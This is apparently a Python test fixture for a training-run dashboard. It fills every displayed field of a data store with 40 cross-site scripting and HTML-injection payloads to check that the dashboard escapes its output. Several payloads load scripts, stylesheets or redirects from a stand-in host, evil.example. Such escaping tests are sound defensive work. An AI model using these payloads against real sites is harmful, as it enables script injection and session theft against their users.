"""Creates a store with a script in every field, for tests of the programs that display it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import dashboard_store

from trainmaster.store import Store
from trainmaster.store.checksummed_json import record_bytes

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '"><svg onload=alert(1)>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--",
    "]]>",
    "\u2028alert(1)\u2029",
    "\x1b]0;title\x07\u202egnp.exe",
)
"""40 strings that run a script, load something or break out of their HTML element if a page does not escape them."""


def file_name(text: str) -> str:
    return text.replace("/", "\N{DIVISION SLASH}") + ".png"


def make_hostile_store(root: Path) -> tuple[Store, str, str]:
    """Create a run with every script in every field that it controls, a run to compare it with, and a search."""
    store = Store(root)
    keys = [_add_run(store, root, lr) for lr in (0.1, 0.2)]
    _add_search(root, keys[0])
    return store, keys[0], keys[1]


def _add_run(store: Store, root: Path, lr: float) -> str:
    config = {f"key {number} {text}".replace(".", "_"): f"{text} {lr}" for number, text in enumerate(SCRIPTS)}
    rows: list[dict[str, Any]] = [{"tag": text, "value": 1.0, "step": 1, "over": text, "time": 1.0} for text in SCRIPTS]
    rows += [{"tag": text, "text": text, "step": 1, "time": 1.0} for text in SCRIPTS]
    key = dashboard_store.add_run(store, {**config, "lr": lr}, outcome="failed", error="\n".join(SCRIPTS), metrics=SCRIPTS, rows=rows)
    store.notes.write(key, "\n".join(SCRIPTS))
    folder = root / "previews" / key[:2] / key / "attempt-0001"
    (folder / "plots").mkdir(parents=True, exist_ok=True)
    for text in SCRIPTS:
        (folder / "plots" / file_name(text)).write_text(text)
    (folder / "environment.json").write_text(json.dumps({text: f"{text} {lr}" for text in SCRIPTS}))
    code = folder / "code" / "c-t"
    code.mkdir(parents=True)
    facts = dict.fromkeys(("commit", "subject", "tree", "branch", "remote", "root", "taken"), "\n".join(SCRIPTS))
    (code / "code.json").write_text(json.dumps({**facts, "changed": SCRIPTS, "new": SCRIPTS, "deleted": SCRIPTS, "left_out": []}))
    lines = "".join(f"diff --git a/{text} b/{text}\n@@ -1 +1 @@ {text}\n-{text}\n+{text}\n" for text in SCRIPTS)
    (code / "changes.patch").write_text(lines)
    (root / "stats" / key[:2] / key / "attempt-0001" / "log").write_text("\n".join([*SCRIPTS, ""]))
    return key


def _add_search(root: Path, key: str) -> None:
    folder = root / "sweeps" / "hostile"
    plan = {"monitor": [SCRIPTS[0]], "directions": ["minimize"], "sampler": SCRIPTS[1], "pruner": SCRIPTS[2], "space": {}}
    for kind in ("proposals", "outcomes"):
        (folder / kind).mkdir(parents=True)
    (folder / "plan.json").write_bytes(record_bytes(plan))
    for number, text in enumerate(SCRIPTS):
        (folder / "proposals" / f"{number:06}.json").write_bytes(record_bytes({"values": {text: text}, "keys": [key], "state": text}))
        (folder / "outcomes" / f"{number:06}.json").write_bytes(record_bytes({"state": "complete", "values": [1.0], "reason": text}))
